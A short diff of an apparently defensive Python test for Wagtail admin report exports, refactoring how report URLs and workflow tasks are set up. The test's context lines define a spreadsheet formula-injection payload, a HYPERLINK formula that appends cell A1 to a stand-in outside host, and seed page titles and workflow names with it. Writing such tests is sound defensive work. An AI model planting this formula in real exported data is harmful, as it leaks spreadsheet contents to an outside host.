@@ -19,9 +19,8 @@ HOSTILE = """=HYPERLINK("https://elsewhere.example/?"&A1)"""
 NAME = "+mallory"
 RUNS = tuple("=+-@\t\r\n")
 # Those of Wagtail that have columns to export; a release that adds one is asked too.
-KNOWN = {
-    *(f"/admin/reports/{name}/" for name in ("locked", "workflow", "workflow_tasks", "site-history", "aging-pages")),
-}
+REPORTS = ("locked", "workflow", "workflow_tasks", "site-history", "aging-pages")
+KNOWN = {f"/admin/reports/{name}/" for name in REPORTS}
 
 
 def exports():
@@ -58,9 +57,8 @@ def hostile(admin):
     page = page_at("privacy")
     page.title = HOSTILE
     page.save_revision(user=mallory).publish(user=mallory)
-    task = Task.objects.create(name=HOSTILE)
     workflow = Workflow.objects.create(name=HOSTILE)
-    WorkflowTask.objects.create(workflow=workflow, task=task)
+    WorkflowTask.objects.create(workflow=workflow, task=Task.objects.create(name=HOSTILE))
     workflow.start(page, mallory)
     now = timezone.now()
     Page.objects.filter(pk=page.pk).update(locked=True, locked_at=now, locked_by=mallory)
